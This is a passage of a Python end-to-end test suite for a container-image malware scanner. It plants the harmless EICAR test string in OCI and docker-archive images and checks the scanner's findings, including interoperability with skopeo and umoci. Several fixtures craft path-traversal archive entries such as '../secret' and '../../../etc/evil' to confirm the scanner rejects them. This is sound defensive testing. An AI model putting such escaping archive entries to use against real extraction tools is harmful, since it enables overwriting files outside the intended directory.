        ok("EICAR" not in r.out, what)
        p = subprocess.run([BIN, "unpack", "oci:" + bad, os.path.join(base, "t-" + what)],
                           stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        eq(p.returncode, 2, "unpack, %s digest: %s" % (what, p.stderr.decode()))
    # docker-archive: a layer path that climbs out of the archive
    out = os.path.join(base, "da.tar")
    docker_archive(out, [L])
    with tarfile.open(out) as t:
        members = [(m, t.extractfile(m).read() if m.isfile() else None) for m in t.getmembers()]
    with tarfile.open(out, "w") as t:
        for m, data in members:
            if m.name == "manifest.json":
                mj = json.loads(data)
                mj[0]["Layers"] = ["../secret"]
                data = jdump(mj)
                m.size = len(data)
            t.addfile(m, _io.BytesIO(data) if data is not None else None)
    r = scan("docker-archive:" + out)
    eq(r.rc, 2, "docker-archive layer path ../secret: " + r.err)
    # nested tar members named out of their archive: reported, never placed
    inner = _io.BytesIO()
    with tarfile.open(fileobj=inner, mode="w") as t:
        for n in ("../../../etc/evil", "/abs/eicar.com"):
            ti = tarfile.TarInfo(n)
            ti.size = len(EICAR)
            t.addfile(ti, _io.BytesIO(EICAR))
    nroot = d("names-nested")
    oci_image(nroot, [Layer([E("a.tar", inner.getvalue())])])
    r = scan(nroot)
    ok(any(i["path"] == "/a.tar" and "escapes" in i["reason"] for i in r.json["incomplete"]),
       "the escaping member is reported: %s" % r.json["incomplete"])
    one_finding(r, "SW-TEST-EICAR", "/a.tar!abs/eicar.com", 0)


# ---------------------------------------------------------------- other clients

@case
def skopeo_and_umoci_interop():
    if not shutil.which("skopeo") or not shutil.which("umoci"):
        raise AssertionError("skopeo and umoci are required (make deps)")
    root = d("umoci")
    img = os.path.join(root, "layout")
    env = dict(os.environ)
    subprocess.run(["umoci", "init", "--layout", img], check=True)
    subprocess.run(["umoci", "new", "--image", img + ":t"], check=True)
    src = os.path.join(root, "src")
    os.makedirs(os.path.join(src, "opt"))
    open(os.path.join(src, "opt", "eicar"), "wb").write(EICAR)
    subprocess.run(["umoci", "insert", "--image", img + ":t", os.path.join(src, "opt"), "/opt"],
                   check=True, env=env, stdout=subprocess.DEVNULL)
    r = scan("oci:%s:t" % img)
    eq(r.rc, 0, r.err)
    one_finding(r, "SW-IOC-SHA256", "/opt/eicar", 0)
    # skopeo converts our OCI image to a docker-archive and an OCI layout of its own
    mine = d("skopeo-src")
    oci_image(mine, [base_layer(), Layer([E("s", kind="dir"), E("s/eicar", EICAR)])], tag="v1")
    da = os.path.join(WORK, "skopeo-docker.tar")
    if os.path.exists(da):
        os.remove(da)
    subprocess.run(["skopeo", "copy", "--quiet", "oci:%s:v1" % mine,
                    "docker-archive:%s:example/skopeo:v1" % da], check=True)
    r = scan(da)
    eq(r.rc, 0, r.err)
    one_finding(r, "SW-IOC-SHA256", "/s/eicar", 1)
    eq(r.json["image"]["reference"], "docker.io/example/skopeo:v1", "reference")
    lay = os.path.join(WORK, "skopeo-oci")
    shutil.rmtree(lay, ignore_errors=True)
    subprocess.run(["skopeo", "copy", "--quiet", "oci:%s:v1" % mine, "oci:%s:copy" % lay], check=True)
    r = scan("oci:%s:copy" % lay)
    one_finding(r, "SW-IOC-SHA256", "/s/eicar", 1)


@case
def realistic_debian_image():
    tarball = os.environ.get("STOWAWAY_DEBIAN_ROOTFS")
    if not tarball or not os.path.exists(tarball):
        raise AssertionError("STOWAWAY_DEBIAN_ROOTFS not built (tests/fixtures/debian-rootfs.sh)")
    root = d("debian")
    raw = open(tarball, "rb").read()
    base = Layer(raw=raw, comp="gzip", created_by="mmdebstrap bookworm minbase")
    top = Layer([E("opt", kind="dir"), E("opt/eicar", EICAR)], created_by="COPY eicar /opt/")
    oci_image(root, [base, top], name="docker.io/library/debian:bookworm")
    r = scan(root)
    eq(r.rc, 0, r.err)
    ok(r.json["stats"]["files"] > 3000, "files: %d" % r.json["stats"]["files"])
    eq(sorted((f["id"], f["path"]) for f in r.json["findings"]),
       [("SW-IOC-SHA256", "/opt/eicar"), ("SW-TEST-EICAR", "/opt/eicar")],
       "only the planted file is found (by its hash and by the EICAR rule)")
    eq(r.json["incomplete"], [], "nothing incomplete")


def main():
    return drive_module("e2e", "stowaway-e2e-", globals())


if __name__ == "__main__":
    sys.exit(main())
